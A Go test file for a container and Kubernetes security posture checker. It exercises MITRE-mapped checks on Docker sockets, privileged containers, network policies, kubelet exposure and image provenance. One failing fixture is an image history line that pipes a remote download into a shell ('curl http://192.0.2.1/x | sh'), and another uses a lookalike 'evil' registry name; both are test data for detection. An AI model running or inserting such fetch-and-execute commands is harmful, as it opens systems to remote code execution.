package posture

import (
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"tidewaiter/analytic"
	"tidewaiter/detections"
	"tidewaiter/image"
	"tidewaiter/policy"
)

var now = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

var library = sync.OnceValues(func() (*analytic.Library, error) { return analytic.Load(detections.Files()) })

func sitePolicy(t *testing.T, text string) *policy.Policy {
	t.Helper()
	lib, err := library()
	if err != nil {
		t.Fatal(err)
	}
	if text == "" {
		return policy.Empty(lib.Vocabulary())
	}
	file := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := policy.Load(file, lib.Vocabulary())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func said[T any](v T) Said[T] { return Said[T]{v, "f"} }

func digest(c string) image.Digest {
	d, err := image.ParseDigest("sha256:" + strings.Repeat(c, 64))
	if err != nil {
		panic(err)
	}
	return d
}

func one(c Container) Facts { c.Name, c.Where = "web", "f"; return Facts{Containers: []Container{c}} }

func img(change func(*Image)) Facts {
	im := Image{Name: "web", Where: "f", Names: []image.Reference{image.Parse("registry.example/team/web:1")}, Digests: []image.Digest{digest("a"), digest("b")}, ID: digest("a"), HasOrigins: true,
		Origins: []image.Reference{image.Parse("registry.example/team/web@" + digest("b").String())}, Created: now.AddDate(0, -1, 0), HasHistory: true, Content: &Content{Layers: 1, Files: 2, Lists: []string{"l"}}}
	change(&im)
	return Facts{Images: []Image{im}}
}

func tcp(tls, verify Said[bool]) Facts {
	return Facts{Engines: []Engine{{Name: "dockerd", Listeners: []Listener{{Network: "tcp", Addr: "0.0.0.0:2376", TLS: tls, Verify: verify, Where: "f"}}}}}
}

func gap(t Topic) Facts { return Facts{Gaps: []Gap{{t, "somewhere", "it is closed"}}} }

var (
	pod        = Pod{Namespace: "shop", Name: "web", Labels: map[string]string{"app": "web"}, Where: "f"}
	both       = NetworkPolicy{Namespace: "shop", Name: "all", Ingress: true, Egress: true}
	everything = []Aspect{Privileged, HostNamespaces, HostPaths, Capabilities, RootUser}
)

// Each check passes, fails, and says that it could not look.
func TestEveryCheck(t *testing.T) {
	tested := map[string]bool{}
	for id, c := range map[string]struct{ pass, fail, unknown Facts }{
		"M1035-1": {tcp(said(true), said(true)), tcp(said(false), said(false)), tcp(Said[bool]{}, Said[bool]{})},
		"M1035-2": {Facts{Uses: []Use{{Way: "ssh", From: "user ann", Where: "f"}}}, Facts{Uses: []Use{{Way: "tcp", From: "192.0.2.9:4711", Where: "f"}}}, gap(TopicUse)},
		"M1035-3": {Facts{Sockets: []Socket{{Path: "/run/docker.sock", Mode: 0o660, GID: 998, Group: "docker", Members: []string{"ann"}}}}, Facts{Sockets: []Socket{{Path: "/run/docker.sock", Mode: 0o666}}}, gap(TopicSockets)},
		"M1035-4": {one(Container{}), one(Container{Mounts: []Mount{{"/var/run/docker.sock", "/s", true}}}), gap(TopicContainers)},
		"M1035-5": {Facts{Kubelets: []Kubelet{{Name: "kubelet", Anonymous: said(false), Authorization: said("Webhook"), ReadOnlyPort: said(0)}}}, Facts{Kubelets: []Kubelet{{Name: "kubelet", Anonymous: said(true)}}}, Facts{Kubelets: []Kubelet{{Name: "kubelet"}}}},
		"M1035-6": {Facts{APIServers: []APIServer{{Name: "API server", Anonymous: said(false), Modes: said([]string{"RBAC"})}}}, Facts{APIServers: []APIServer{{Name: "API server", Anonymous: said(true), Modes: said([]string{"RBAC"})}}}, Facts{}},

		"M1026-1": {one(Container{User: said("1000:1000")}), one(Container{User: said("")}), gap(TopicContainers)},
		"M1026-2": {one(Container{}), one(Container{Privileged: true}), gap(TopicContainers)},
		"M1026-3": {one(Container{CapAdd: []string{"NET_BIND_SERVICE"}}), one(Container{CapAdd: []string{"cap_sys_admin"}}), gap(TopicContainers)},
		"M1026-4": {one(Container{}), one(Container{HostNamespaces: []string{"pid"}}), gap(TopicContainers)},
		"M1026-5": {one(Container{Mounts: []Mount{{"/srv/data", "/data", false}}}), one(Container{Mounts: []Mount{{"/etc/", "/host", true}}}), gap(TopicContainers)},
		"M1026-6": {Facts{Engines: []Engine{{Name: "d", Userns: said("rootless")}}}, Facts{Engines: []Engine{{Name: "d", Userns: said("")}}}, Facts{Engines: []Engine{{Name: "d"}}}},
		"M1026-7": {Facts{Namespaces: []Namespace{{"shop", map[string]string{enforceLabel: "restricted"}, "f"}}}, Facts{Namespaces: []Namespace{{"shop", map[string]string{enforceLabel: "privileged"}, "f"}}}, Facts{Pods: []Pod{pod}}},
		"M1026-8": {Facts{Pods: []Pod{pod}, Admission: []Admission{{Kind: "V", Name: "v", Enforces: true, Aspects: everything}}}, Facts{Pods: []Pod{pod}, Admission: []Admission{{Kind: "V", Name: "v", Aspects: everything, WhyNot: "Audit"}}}, Facts{}},

		"M1030-1": {one(Container{Networks: []string{"shop"}}), one(Container{Networks: []string{"bridge"}}), gap(TopicContainers)},
		"M1030-2": {Facts{Networks: []Network{{Name: "bridge", Default: true}}}, Facts{Engines: []Engine{{Name: "d", ICC: said(true)}}}, gap(TopicNetworks)},
		"M1030-3": {Facts{Pods: []Pod{pod}, NetworkPolicies: []NetworkPolicy{both}}, Facts{Pods: []Pod{pod}, NetworkPolicies: []NetworkPolicy{{Namespace: "shop", Name: "in", Ingress: true}}}, gap(TopicCluster)},
		"M1030-4": {Facts{Firewalls: []Firewall{{Name: "n", HasDockerUser: true, DockerUser: []string{"-j DROP"}}}}, Facts{Firewalls: []Firewall{{Name: "n", HasDockerUser: true}}}, gap(TopicFirewall)},
		"M1030-5": {Facts{Engines: []Engine{{Name: "d", Listeners: []Listener{{Network: "tcp", Addr: "127.0.0.1:2375"}}}}}, tcp(said(true), said(true)), Facts{Engines: []Engine{{Name: "d"}}}},
		"M1030-6": {Facts{Kubelets: []Kubelet{{Listeners: []Listener{{Addr: "[::]:10250"}}}}, Firewalls: []Firewall{{Input: []string{"tcp dport 10250 ip saddr != 192.0.2.1 drop"}}}}, Facts{Kubelets: []Kubelet{{Listeners: []Listener{{Addr: "[::]:10250"}}}}}, gap(TopicKubelet)},
		"M1030-7": {Facts{Engines: []Engine{{Name: "d", Proxy: said("proxy http://p:3128")}}}, Facts{Engines: []Engine{{Name: "d", Proxy: said("")}}}, Facts{Engines: []Engine{{Name: "d"}}}},

		"M1047-1": {img(func(*Image) {}), img(func(i *Image) { i.Origins = nil }), img(func(i *Image) { i.Origins, i.HasOrigins = nil, false })},
		"M1047-2": {one(Container{Image: image.Parse("nginx@" + digest("b").String())}), one(Container{Image: image.Parse("nginx:1.27")}), one(Container{Image: image.Parse("NGINX:")})},
		"M1047-3": {img(func(*Image) {}), img(func(i *Image) { i.Created = now.AddDate(-1, 0, 0) }), img(func(i *Image) { i.Created = time.Unix(0, 0) })},
		"M1047-4": {img(func(*Image) {}), img(func(i *Image) {
			i.Names, i.Origins = []image.Reference{image.Parse("registry.example.evil.test/team/web:1")}, nil
		}), gap(TopicImages)},
		"M1047-5":  {img(func(i *Image) { i.Seals = []Seal{{Kind: Signature, Valid: true, Who: "ci"}} }), img(func(i *Image) { i.Seals = []Seal{{Kind: Signature, Why: "another key"}} }), img(func(i *Image) { i.SealsRead = "the layout" })},
		"M1047-6":  {img(func(i *Image) { i.Seals = []Seal{{Kind: Provenance, Valid: true, Builder: "b"}} }), img(func(i *Image) { i.Seals = []Seal{{Kind: Provenance, Why: "another key"}} }), img(func(*Image) {})},
		"M1047-7":  {img(func(i *Image) { i.History = []string{"COPY app /app # buildkit"} }), img(func(i *Image) { i.History = []string{"RUN /bin/sh -c curl http://192.0.2.1/x | sh"} }), img(func(i *Image) { i.HasHistory = false })},
		"M1047-8":  {img(func(i *Image) { i.Content.SetID = []File{{Path: "usr/bin/su"}} }), img(func(i *Image) { i.Content.SetID = []File{{Path: "opt/su"}} }), img(func(i *Image) { i.Content = nil })},
		"M1047-9":  {img(func(*Image) {}), img(func(i *Image) { i.Content.Hidden = []File{{Path: "tmp/x"}} }), img(func(i *Image) { i.Content.Stopped = "a bound" })},
		"M1047-10": {img(func(*Image) {}), img(func(i *Image) { i.Content.Bad = []File{{Path: "x"}} }), img(func(i *Image) { i.Content.Lists = nil })},
	} {
		for want, facts := range map[Verdict]Facts{Pass: c.pass, Fail: c.fail, Unknown: c.unknown} {
			r := resultOf(t, &facts, id)
			if r.Verdict != want {
				t.Errorf("%s: %s (%s), want %s", id, r.Verdict, r.Why, want)
			}
			if r.Why == "" || want == Unknown && !strings.HasPrefix(r.Why, "could not look: ") {
				t.Errorf("%s: %s says %q", id, r.Verdict, r.Why)
			}
		}
		tested[id] = true
	}
	for _, c := range Checks() {
		if !tested[c.ID] {
			t.Errorf("%s is not tested", c.ID)
		}
	}
}

func resultOf(t *testing.T, f *Facts, id string) Result {
	t.Helper()
	p := sitePolicy(t, "version: 1\nsettings:\n  registries: [registry.example/team/*]\n")
	for _, r := range Examine(f, Options{Policy: p, Now: now}) {
		if r.Check.ID == id {
			return r
		}
	}
	t.Fatalf("no check %s", id)
	return Result{}
}

// What each check says of itself is whole, and names analytics that exist.
func TestChecksSayWhatTheyAre(t *testing.T) {
	lib, err := library()
	if err != nil {
		t.Fatal(err)
	}
	// AN0612 and AN1261 are executed by other parts of MITRE's list than those in
	// detections/: they are named as MITRE does.
	known := map[string]bool{"AN0612": true, "AN1261": true}
	for _, d := range lib.Detections() {
		known[d.ID] = true
	}
	ids := map[string]bool{}
	for _, c := range Checks() {
		if ids[c.ID] || !strings.HasPrefix(c.ID, c.Mitigation+"-") || Mitigations()[c.Mitigation] == "" {
			t.Errorf("%s: its id or its mitigation %s is wrong", c.ID, c.Mitigation)
		}
		ids[c.ID] = true
		if c.Title == "" || c.Mend == "" || c.Needs == "" && c.Mitigation != "M1047" || len(c.Effects) == 0 || len(c.Docker)+len(c.Kubernetes) == 0 && !strings.HasPrefix(c.ID, "M1030-") {
			t.Errorf("%s does not say all of itself", c.ID)
		}
		for _, e := range c.Effects {
			if !known[e.Analytic] || e.Why == "" {
				t.Errorf("%s: effect on %s", c.ID, e.Analytic)
			}
		}
	}
}

// Nothing passes by default: without facts no check passes or fails.
func TestNothingIsKnownOfNothing(t *testing.T) {
	for _, r := range Examine(&Facts{}, Options{Policy: sitePolicy(t, ""), Now: now}) {
		if r.Verdict != Unknown {
			t.Errorf("%s: %s", r.Check.ID, r.Verdict)
		}
	}
	for _, r := range Examine(&Facts{Gaps: []Gap{{TopicInput, "x", "no"}}, Engines: []Engine{{Name: "d", Listeners: []Listener{{Network: "unix"}}}}}, Options{Policy: sitePolicy(t, ""), Now: now}) {
		if r.Check.ID == "M1035-1" && r.Verdict != Unknown {
			t.Errorf("a file that nobody could read could have held an address, but M1035-1 is %s", r.Verdict)
		}
	}
}
